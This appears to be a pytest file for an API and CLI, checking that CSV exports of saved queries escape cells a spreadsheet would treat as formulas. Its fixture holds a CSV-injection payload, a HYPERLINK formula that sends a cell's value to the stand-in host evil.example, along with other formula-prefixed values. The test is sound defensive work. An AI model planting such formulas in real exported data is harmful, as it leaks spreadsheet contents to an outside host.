"""CSV from saved queries is safe to open in a spreadsheet, on the API and on the CLI (issue 14.5)."""

from __future__ import annotations

import httpx
import pytest

from tests.api.conftest import Keys, bearer
from tests.api.test_cli_parity import intelgraph

pytestmark = pytest.mark.anyio

HOSTILE = {
    "name": "hostile_cells_test",
    "description": "Cells a spreadsheet would take for formulas",
    "cypher": "RETURN '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")' AS link, "
    "'+1+2' AS plus, '-2+3' AS minus, '@SUM(A1:A9)' AS at, 'x\ty' AS inner_tab, "
    "'plain' AS plain, -3 AS number, ['=1', 'b'] AS list",
    "parameters": {},
    "columns": ["link", "plus", "minus", "at", "inner_tab", "plain", "number", "list"],
}

EXPECTED = (
    "link,plus,minus,at,inner_tab,plain,number,list\n"
    '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1+2,\'-2+3,\'@SUM(A1:A9),'
    "x\ty,plain,-3,'=1;b\n"
)


async def test_csv_cells_that_start_formulas_are_escaped(
    client: httpx.AsyncClient, api_keys: Keys, neo4j_env: dict[str, str]
) -> None:
    saved = await client.post("/api/queries", json=HOSTILE, headers=bearer(api_keys.write))
    assert saved.status_code == 201, saved.text
    try:
        response = await client.post(f"/api/queries/{HOSTILE['name']}/run?format=csv", json={})
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/csv")
        assert response.text == EXPECTED
        as_json = await client.post(f"/api/queries/{HOSTILE['name']}/run", json={})
        assert as_json.json()["rows"][0]["link"].startswith("=HYPERLINK(")  # JSON is data, not escaped

        cli = intelgraph(neo4j_env, "query", HOSTILE["name"], "--format", "csv")
        assert cli.returncode == 0, cli.stderr
        assert cli.stdout == EXPECTED
    finally:
        await client.delete(f"/api/queries/{HOSTILE['name']}", headers=bearer(api_keys.write))
